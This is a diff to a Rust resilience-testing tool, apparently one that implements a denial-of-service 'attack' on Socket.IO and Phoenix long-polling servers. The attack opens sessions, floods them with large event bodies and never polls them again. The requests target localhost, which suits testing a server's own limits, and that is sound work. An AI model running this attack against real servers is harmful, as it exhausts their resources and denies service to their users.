@@ -1,4 +1,4 @@
-//! Sessions of Socket.IO with large bodies, which are never polled again.
+//! Sessions with large bodies, which are never polled again.
 
 use std::{
     collections::VecDeque,
@@ -37,8 +37,40 @@ pub(crate) const SESSIONS: &str = "sessions";
 /// The tally's name for the bodies that were sent.
 pub(crate) const SENT: &str = "bodies";
 
+/// What the clients of a protocol send.
+#[derive(Clone, Copy)]
+pub(super) struct Dialect {
+    /// The URL of a request that opens a session.
+    url: &'static str,
+    /// The field with the name of the session, and the parameter that repeats it.
+    session: &'static str,
+    /// The first body.
+    first: &'static str,
+    /// An event that is answered with its topic or its name, in place of `NAME`.
+    event: &'static str,
+    /// What separates events.
+    separator: &'static str,
+}
+
+pub(super) const PHOENIX: Dialect = Dialect {
+    url: "/socket/longpoll?vsn=2.0.0",
+    session: "token",
+    first: r#"["1","1","all","phx_join",{}]"#,
+    event: r#"["1","2","NAME","a",{}]"#,
+    separator: "\n",
+};
+
+pub(super) const SOCKET_IO: Dialect = Dialect {
+    url: "/socket.io/?EIO=4&transport=polling",
+    session: "sid",
+    first: "40",
+    event: "42[\"NAME\"]",
+    separator: "\u{1e}",
+};
+
 /// Clients that open such sessions.
 pub(super) struct Polls {
+    dialect: Dialect,
     /// The connections on which bodies are sent.
     peers: Peers,
     body: String,
@@ -47,12 +79,13 @@ pub(super) struct Polls {
 }
 
 impl Polls {
-    pub(super) fn new(server: SocketAddr, sessions: usize) -> Self {
-        let event = format!("42[\"{}\"]", "a".repeat(2_000));
+    pub(super) fn new(dialect: Dialect, server: SocketAddr, sessions: usize) -> Self {
+        let event = dialect.event.replace("NAME", &"a".repeat(2_000));
         let events = vec![&*event; BODY_BYTES / (event.len() + 1)];
         Self {
+            dialect,
             peers: Peers::new(server, sessions),
-            body: events.join("\u{1e}"),
+            body: events.join(dialect.separator),
             sessions: VecDeque::new(),
         }
     }
@@ -60,11 +93,19 @@ impl Polls {
     /// Opens a session, and begins to send its bodies on the same connection.
     fn open(&self) -> Result<Peer> {
         let mut peer = Peer::connect(self.peers.server)?;
-        let opened = ask(&mut peer, &request("GET", "", ""))?;
-        let sid = opened.split('"').nth(3).context("no session ID")?;
-        let session = format!("&sid={sid}");
-        ask(&mut peer, &request("POST", &session, "40"))?;
-        let body = request("POST", &session, &self.body);
+        let Dialect {
+            url,
+            session,
+            first,
+            ..
+        } = self.dialect;
+        let opened = ask(&mut peer, &request("GET", url, ""))?;
+        let name = opened.split(&format!("\"{session}\":\"")).nth(1);
+        let name = name.and_then(|rest| rest.split('"').next());
+        let name = name.context("no session")?;
+        let url = format!("{url}&{session}={name}");
+        ask(&mut peer, &request("POST", &url, first))?;
+        let body = request("POST", &url, &self.body);
         peer.unsent = body.repeat(BODIES).into_bytes();
         Ok(peer.unblock()?)
     }
@@ -98,12 +139,9 @@ impl Attack for Polls {
 }
 
 /// Returns a request of a client that polls.
-fn request(method: &str, session: &str, body: &str) -> String {
+fn request(method: &str, url: &str, body: &str) -> String {
     let length = body.len();
-    format!(
-        "{method} /socket.io/?EIO=4&transport=polling{session} HTTP/1.1\r\n\
-         Host: localhost\r\nContent-Length: {length}\r\n\r\n{body}"
-    )
+    format!("{method} {url} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {length}\r\n\r\n{body}")
 }
 
 /// Sends a request, and returns the body of the response.
